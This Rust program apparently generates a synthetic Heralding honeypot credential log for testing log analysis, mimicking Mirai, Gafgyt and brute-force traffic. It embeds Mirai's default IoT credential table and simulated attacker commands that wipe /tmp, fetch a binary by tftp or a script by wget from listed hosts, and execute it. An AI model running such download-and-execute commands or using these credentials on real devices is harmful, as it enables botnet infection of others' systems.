//! Writes a Heralding 10-column `log_auth.csv` with a realistic mix: Zipf-like
//! popularity of sources and credentials, Mirai scanner sessions (credential from
//! Mirai's table, then enable/system, shell/sh), 7up-style tftp loaders, Gafgyt
//! one-liners, generic dictionary brute force and random junk credentials.
//!
//! usage: gen ROWS SOURCES OUT.csv   (deterministic; prints distinct sources)

use std::io::{BufWriter, Write};

struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        // xorshift64*
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }
    fn below(&mut self, n: u64) -> u64 {
        self.next() % n.max(1)
    }
    /// Rank in 0..n with P(r) roughly proportional to 1/(r+1).
    fn zipf(&mut self, n: u64) -> u64 {
        ((self.unit() * (n as f64).ln()).exp() as u64).saturating_sub(1).min(n - 1)
    }
}

const MIRAI: &[(&str, &str)] = &[
    ("root", "xc3511"), ("root", "vizxv"), ("root", "admin"), ("admin", "admin"), ("root", "888888"),
    ("root", "xmhdipc"), ("root", "default"), ("root", "juantech"), ("root", "123456"), ("root", "54321"),
    ("support", "support"), ("root", ""), ("admin", "password"), ("root", "root"), ("root", "12345"),
    ("user", "user"), ("admin", ""), ("root", "pass"), ("admin", "admin1234"), ("root", "1111"),
    ("admin", "smcadmin"), ("admin", "1111"), ("root", "666666"), ("root", "password"), ("root", "1234"),
    ("root", "klv123"), ("Administrator", "meinsm"), ("service", "service"), ("guest", "guest"), ("ubnt", "ubnt"),
];
const USERS: &[&str] = &["root", "admin", "user", "test", "guest", "support", "oracle", "ubuntu", "pi", "ftp", "postgres", "git", "www", "mysql"];
const WORDS: &[&str] = &["123456", "password", "admin", "12345678", "qwerty", "letmein", "welcome", "dragon", "monkey", "abc123", "111111", "iloveyou", "sunshine", "master", "shadow", "ashley", "football", "jesus", "michael", "ninja", "mustang", "password1", "toor", "changeme", "raspberry"];
const LOADERS: &[&str] = &["89.33.64.118", "89.33.64.117", "86.105.1.109", "185.35.139.92", "185.35.139.97", "93.190.142.201"];

fn uuid(rng: &mut Rng) -> String {
    let (a, b) = (rng.next(), rng.next());
    format!(
        "{:08x}-{:04x}-4{:03x}-{:04x}-{:012x}",
        a >> 32,
        (a >> 16) & 0xffff,
        a & 0xfff,
        (b >> 48) & 0x3fff | 0x8000,
        b & 0xffff_ffff_ffff
    )
}

fn ip_of(index: u64) -> String {
    // Spread ranks over the address space deterministically.
    let x = index.wrapping_mul(2_654_435_761).wrapping_add(0x0b00_0000) as u32;
    let [a, b, c, d] = x.to_be_bytes();
    format!("{}.{}.{}.{}", a.clamp(1, 223), b, c, d.max(1))
}

fn dictionary_cred(rng: &mut Rng) -> (String, String) {
    let u = USERS[rng.zipf(USERS.len() as u64) as usize];
    let w = WORDS[rng.zipf(WORDS.len() as u64) as usize];
    let suffix = rng.zipf(2_000);
    if suffix < 3 { (u.into(), w.into()) } else { (u.into(), format!("{w}{suffix}")) }
}

fn main() {
    let args: Vec<String> = std::env::args().collect();
    let rows: u64 = args.get(1).and_then(|a| a.parse().ok()).unwrap_or(10_000_000);
    let sources: u64 = args.get(2).and_then(|a| a.parse().ok()).unwrap_or(3_000_000);
    let path = args.get(3).cloned().unwrap_or_else(|| "heralding_10m.csv".into());
    let file = std::fs::File::create(&path).unwrap_or_else(|e| panic!("{path}: {e}"));
    let mut out = BufWriter::with_capacity(1 << 20, file);
    let mut rng = Rng(0x7472_6177_6c21);
    let mut seen = vec![false; sources as usize];
    let mut distinct = 0u64;
    writeln!(out, "timestamp,auth_id,session_id,source_ip,source_port,destination_ip,destination_port,protocol,username,password").ok();
    let mut t_us: i64 = 1_480_000_000_000_000;
    let mut written = 0u64;
    while written < rows {
        let src = rng.zipf(sources);
        if !std::mem::replace(&mut seen[src as usize], true) {
            distinct += 1;
        }
        let ip = ip_of(src);
        let port = 1024 + rng.below(64_000);
        let session = uuid(&mut rng);
        let behaviour = src % 20;
        let (proto, dport) = match rng.below(10) {
            0..=6 => ("telnet", 23),
            7 => ("ssh", 22),
            8 => ("ftp", 21),
            _ => ("http", 80),
        };
        let mut pairs: Vec<(String, String)> = Vec::new();
        match behaviour {
            0..=4 => {
                let (u, p) = MIRAI[rng.zipf(MIRAI.len() as u64) as usize];
                pairs.push((u.into(), p.into()));
                pairs.push(("enable".into(), "system".into()));
                pairs.push(("shell".into(), "sh".into()));
            }
            5 => {
                let cred = if rng.below(2) == 0 { ("root", "5up") } else { ("Admin", "5up") };
                pairs.push((cred.0.into(), cred.1.into()));
                let host = LOADERS[rng.zipf(LOADERS.len() as u64) as usize];
                pairs.push((format!("cd /var/tmp;cd /tmp;rm -f *;tftp -l 7up -r 7up -g {host};chmod a+x 7up;./7up"), "system".into()));
            }
            6 => {
                pairs.push(dictionary_cred(&mut rng));
                let h = rng.below(40);
                pairs.push((format!("cd /tmp || cd /var/run; wget http://198.51.100.{h}/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 198.51.100.{h} -c get tftp1.sh"), "sh".into()));
            }
            7 => {
                let junk = rng.next();
                pairs.push((format!("u{:x}", junk & 0xffff), format!("p{:x}", junk >> 20)));
            }
            _ => {
                for _ in 0..1 + rng.below(3) {
                    pairs.push(dictionary_cred(&mut rng));
                }
            }
        }
        for (u, p) in pairs {
            if written >= rows {
                break;
            }
            t_us += rng.below(400_000) as i64;
            let secs = t_us / 1_000_000;
            let (days, rem) = (secs / 86_400, secs % 86_400);
            let (y, m, d) = civil(days);
            let quote = |s: &str| if s.contains([',', '"']) { format!("\"{}\"", s.replace('"', "\"\"")) } else { s.to_string() };
            writeln!(
                out,
                "{y:04}-{m:02}-{d:02} {:02}:{:02}:{:02}.{:06},{},{session},{ip},{port},,{dport},{proto},{},{}",
                rem / 3600,
                rem % 3600 / 60,
                rem % 60,
                t_us % 1_000_000,
                uuid(&mut rng),
                quote(&u),
                quote(&p)
            )
            .ok();
            written += 1;
        }
    }
    out.flush().ok();
    println!("rows={written} distinct_sources={distinct} file={path}");
}

fn civil(days: i64) -> (i64, i64, i64) {
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    (yoe + era * 400 + i64::from(m <= 2), m, d)
}
